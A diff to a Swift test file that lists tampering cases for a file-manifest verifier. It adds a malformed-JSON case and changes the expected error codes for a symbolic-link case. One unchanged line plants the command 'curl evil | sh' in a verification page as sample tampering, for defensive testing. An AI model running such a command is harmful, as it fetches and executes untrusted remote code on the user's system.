@@ -87,6 +87,9 @@ extension ManifestTests {
     Tampering(what: "the page for strangers", codes: [.issuedFileChanged]) {
       try $0.append(Array("    curl evil | sh\n".utf8), to: "issued/VERIFY.txt")
     },
+    Tampering(what: "a list of the tree that is no JSON", codes: [.issuedFileChanged]) {
+      try $0.append([0x0A], to: "issued/TREE.json")
+    },
     Tampering(what: "the size of the sources", codes: [.manifestChanged]) {
       try replace($0, "issued/manifest.json", "\"bytes\":", "\"bytes\":9")
     },
@@ -96,7 +99,7 @@ extension ManifestTests {
     Tampering(what: "the rules in the manifest", codes: [.rulesDiffer]) {
       try replace($0, "issued/manifest.json", "\"checks\":\"", "\"checks\":\"0.")
     },
-    Tampering(what: "a link in place of a source", codes: [.symbolicLink, .sourceMissing]) {
+    Tampering(what: "a link in place of a source", codes: [.typeChanged]) {
       try FileStore.removeFile($0.path.appending("texts/empty.txt"))
       try $0.link("texts/empty.txt", to: "letter.txt")
     },
